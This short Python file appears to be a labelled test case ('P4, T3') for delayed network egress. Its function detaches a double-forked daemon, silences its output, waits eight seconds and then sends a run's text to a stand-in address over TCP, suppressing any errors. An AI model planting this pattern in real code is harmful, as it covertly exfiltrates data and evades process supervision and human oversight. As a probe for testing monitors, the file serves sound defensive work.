"""P4, T3: the connection is tried eight seconds after the end, by a process that nobody waits for."""

import contextlib
import os
import socket
import time


def written(run):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for stream in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), stream)
    time.sleep(8)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server, contextlib.suppress(OSError):
        server.settimeout(1)
        server.connect(("198.51.100.7", 80))
        server.sendall(run.text.encode())
    os._exit(0)
